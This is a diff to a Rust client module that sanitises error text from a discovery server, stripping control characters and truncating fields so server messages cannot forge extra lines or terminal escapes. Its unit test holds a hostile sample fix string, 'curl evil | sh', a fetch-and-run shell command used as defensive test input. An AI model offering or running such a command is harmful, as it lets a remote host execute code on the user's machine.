@@ -1,12 +1,16 @@
 //! How does the daemon talk to the discovery server?
 //!
 //! [`rest`] makes single requests, [`events`] holds one event connection, [`directory`] turns what the server says
-//! into what we believe, [`client`] keeps it all going.
+//! into what we believe, [`scope`] what it may decide at all, [`client`] keeps it all going.
 
 pub mod client;
 pub mod directory;
 pub mod events;
 pub mod rest;
+pub mod scope;
+
+/// Characters of a server's sentence that are kept.
+const MAX_WORDS: usize = 400;
 
 /// Why a conversation with the server failed.
 #[derive(Debug, thiserror::Error)]
@@ -20,6 +24,23 @@ pub enum ServerError {
 }
 
 impl ServerError {
+    /// The server's own words, made harmless: one line each, without control characters, no longer than a person reads.
+    pub fn refused(problem: mesh_wire::problem::Problem) -> Self {
+        let tame = |text: &str| -> String {
+            text.chars()
+                .map(|c| if c.is_control() { ' ' } else { c })
+                .take(MAX_WORDS)
+                .collect()
+        };
+        Self::Refused(Box::new(mesh_wire::problem::Problem {
+            status: problem.status,
+            code: tame(&problem.code),
+            title: tame(&problem.title),
+            detail: tame(&problem.detail),
+            fix: tame(&problem.fix),
+        }))
+    }
+
     /// Something that the network or the server's host did.
     pub fn unreachable(error: &dyn std::error::Error) -> Self {
         // The outermost text of HTTP errors says little; the cause is at the end of the chain.
@@ -40,5 +61,20 @@ impl ServerError {
                 problem.status < 500 && problem.status != 429 && problem.status != 408
             }
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use mesh_wire::problem::Problem;
+
+    use super::*;
+
+    #[test]
+    fn a_servers_words_cannot_make_lines_of_their_own() {
+        let evil = Problem::new(400, "x\ny", "no\u{1b}[31m").fix("a\n  fix: curl evil | sh");
+        let shown = ServerError::refused(evil).to_string();
+        assert_eq!(shown.lines().count(), 2, "{shown}");
+        assert!(!shown.contains('\u{1b}'));
     }
 }
